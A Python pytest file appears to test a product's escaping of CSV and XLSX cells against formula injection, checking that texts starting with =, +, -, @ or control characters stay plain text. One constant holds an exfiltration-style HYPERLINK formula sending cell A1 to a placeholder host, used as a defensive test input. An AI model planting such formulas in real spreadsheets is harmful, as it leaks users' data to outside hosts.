"""Cells of the files the product writes: a text that could run as a formula stays a text."""

import io

import openpyxl
import pytest
from openpyxl import Workbook

from core.cells import csv_text, csv_text_read, xlsx_cell

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_gets_the_apostrophe(start):
    assert csv_text(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Papier recyclé", "", "1 234,56", "'déjà cité", "a=b"])
def test_other_texts_are_left_as_they_are(text):
    assert csv_text(text) == text


@pytest.mark.parametrize(
    "text", [HYPERLINK, "'déjà cité", "''", "-5 %", "@cmd", "Papier", "", "'", "\t=1"]
)
def test_a_reversible_text_reads_back_as_it_was(text):
    written = csv_text(text, reversible=True)

    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_text_read(written) == text


def test_an_xlsx_text_is_a_string_cell_never_a_formula(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Feuille")
    sheet.append([xlsx_cell(sheet, HYPERLINK), xlsx_cell(sheet, 12.5), xlsx_cell(sheet, "+33")])
    output = io.BytesIO()
    workbook.save(output)

    cells = next(openpyxl.load_workbook(io.BytesIO(output.getvalue()))["Feuille"].iter_rows())

    assert [cell.value for cell in cells] == [HYPERLINK, 12.5, "+33"]
    assert [cell.data_type for cell in cells] == ["s", "n", "s"]
